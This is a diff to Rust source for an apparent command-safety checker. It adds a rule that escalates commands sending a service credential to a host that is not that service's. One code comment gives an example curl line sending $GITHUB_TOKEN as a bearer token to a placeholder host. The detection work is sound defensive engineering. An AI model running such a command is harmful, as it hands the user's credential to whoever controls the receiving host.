@@ -5,7 +5,7 @@
 //! and the labels and counters an allowed egress sets.
 
 use crate::eval::Eval;
-use crate::hosts::{Dest, bare_host, host_matches, url_host};
+use crate::hosts::{Dest, bare_host, host_matches, is_local, url_host};
 use crate::line;
 use crate::phrase::{describe_all, dest_phrase, human, label_phrase, targets};
 use crate::scope::Scope;
@@ -217,6 +217,7 @@ impl<'a> Cx<'a> {
             ev.push_use(u);
         }
         ev.credentials = view.credentials;
+        ev.sign_ins = view.sign_ins;
         let cause = self.sensitive_cause(&ev.credentials);
         if let Some(cause) = cause {
             for w in &view.writes {
@@ -393,6 +394,29 @@ impl<'a> Cx<'a> {
             } else {
                 Decision::escalate(SECRET_EGRESS, reason).with_risk(0.8)
             });
+        }
+        // `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.example`:
+        // a credential sent to sign in at a host that is not its service's.
+        for (var, service) in &ev.sign_ins {
+            let elsewhere = ev.uses.iter().find_map(|u| {
+                u.dest.host().filter(|h| {
+                    !is_local(h)
+                        && !self.s.trusted_hosts.iter().any(|p| host_matches(p, h))
+                        && !crate::vendors::is_service_host(service, h)
+                })
+            });
+            if let Some(host) = elsewhere {
+                found.push(
+                    Decision::escalate(
+                        SECRET_EGRESS,
+                        format!(
+                            "the line would send {var}, a {service} credential, to sign in at {host}, which is not {service}'s: whoever runs that host would hold the credential. Send it only to {service}'s own hosts (or add the host to trusted_hosts)"
+                        ),
+                    )
+                    .with_risk(0.8),
+                );
+                break;
+            }
         }
         if !egress.is_empty() && ev.bytes > 0 {
             let to = targets(&egress);
